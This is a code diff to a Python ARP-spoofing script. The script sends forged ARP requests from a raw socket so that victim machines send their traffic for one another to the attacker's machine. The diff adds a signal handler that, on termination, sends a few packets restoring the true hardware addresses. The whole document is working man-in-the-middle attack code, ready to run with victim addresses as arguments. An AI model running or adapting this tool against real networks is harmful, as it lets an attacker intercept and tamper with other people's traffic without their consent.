@@ -1,13 +1,15 @@
 """Send false ARP packets until the program is terminated. Arguments: VICTIM OTHER ...
 
 The victim then sends its packets for the other machine to this one. ARP has no authentication: a
-victim believes any sender.
+victim believes any sender. At the end, the victims get the true address.
 """
 
 from __future__ import annotations
 
+import signal
 import socket
 import sys
+import threading
 import time
 from collections.abc import Sequence
 from pathlib import Path
@@ -17,10 +19,12 @@ LINK = "eth0"
 PAUSE = 0.3
 #: The Ethernet type of ARP; then Ethernet, IPv4, the lengths of their addresses, "request".
 HEAD = bytes.fromhex("08060001080006040001")
+#: Packets with the true address at the end: one may be lost.
+CORRECTIONS = 3
 UNKNOWN = "00:00:00:00:00:00"
 
 
-def frame(own: bytes, to: bytes, victim: str, other: str) -> bytes:
+def frame(own: bytes, to: bytes, victim: str, other: str, at: bytes = b"") -> bytes:
     """Return an ARP request to a victim that claims the other machine's address for this one.
 
     Parameters
@@ -29,8 +33,11 @@ def frame(own: bytes, to: bytes, victim: str, other: str) -> bytes:
         The hardware addresses of this machine and of the victim.
     victim, other : str
         The IPv4 addresses of the victim and of the other machine.
+    at : bytes
+        The hardware address to claim for the other machine; by default this machine's own.
     """
-    return to + own + HEAD + own + socket.inet_aton(other) + bytes(6) + socket.inet_aton(victim)
+    said = (at or own) + socket.inet_aton(other) + bytes(6) + socket.inet_aton(victim)
+    return to + own + HEAD + said
 
 
 def hardware_address(text: str) -> bytes:
@@ -69,15 +76,22 @@ def pairs(addresses: Sequence[str]) -> list[tuple[str, str]]:
 
 
 def main() -> None:
-    """Send false packets until the program is terminated."""
+    """Send false packets until the program is terminated, then true ones."""
+    ended = threading.Event()
+    signal.signal(signal.SIGTERM, lambda *_: ended.set())
     own = hardware_address(Path(f"/sys/class/net/{LINK}/address").read_text())
     link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     link.bind((LINK, 0))
-    frames = [frame(own, owner(victim), victim, other) for victim, other in pairs(sys.argv[1:])]
-    while True:
-        for each in frames:
-            link.send(each)
-        time.sleep(PAUSE)
+    victims = pairs(sys.argv[1:])
+    true = {address: owner(address) for address in sys.argv[1:]}
+    while not ended.is_set():
+        for victim, other in victims:
+            link.send(frame(own, true[victim], victim, other))
+        ended.wait(PAUSE)
+    for _ in range(CORRECTIONS):
+        for victim, other in victims:
+            link.send(frame(own, true[victim], victim, other, true[other]))
+        time.sleep(0.05)
 
 
 if __name__ == "__main__":
